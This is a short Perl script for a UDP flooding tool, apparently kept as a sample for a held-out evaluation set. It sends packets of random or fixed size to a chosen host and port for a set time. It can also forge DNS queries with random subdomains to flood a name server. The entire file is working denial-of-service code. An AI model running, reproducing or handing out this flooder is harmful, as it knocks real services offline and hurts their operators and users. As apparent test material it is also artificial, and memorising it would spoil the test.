#!/usr/bin/perl
# A UDP flooder as it goes around the web, for the held-out set: one socket, one port or another each time, random sizes.
#     flood.pl HOST PORT(0: random) SIZE(0: random) SECONDS PAUSE [NAME: ask for names below it]
use strict;
use warnings;
use Socket qw(inet_pton pack_sockaddr_in pack_sockaddr_in6 AF_INET AF_INET6 SOCK_DGRAM);
use Time::HiRes qw(time sleep);

my ($host, $port, $size, $seconds, $pause, $zone) = @ARGV;
my $six = index($host, ':') >= 0;
socket(my $sock, $six ? AF_INET6 : AF_INET, SOCK_DGRAM, 17) or die "socket: $!";
my $addr = inet_pton($six ? AF_INET6 : AF_INET, $host);
my $until = time() + $seconds;
while (time() < $until) {
    my $to = $port || int(rand(65500)) + 1;
    my $body = pack('a' . ($size || int(rand(1000)) + 30), 'flood');
    if ($zone) {
        my @labels = (sprintf('%08x', rand(0xffffffff)), split(/\./, $zone));
        $body = pack('nnnnnn', rand(65536), 0x0100, 1, 0, 0, 0) . join('', map { pack('C/a*', $_) } @labels) . pack('Cnn', 0, 1, 1);
    }
    send($sock, $body, 0, $six ? pack_sockaddr_in6($to, $addr) : pack_sockaddr_in($to, $addr));
    sleep($pause) if $pause;
}
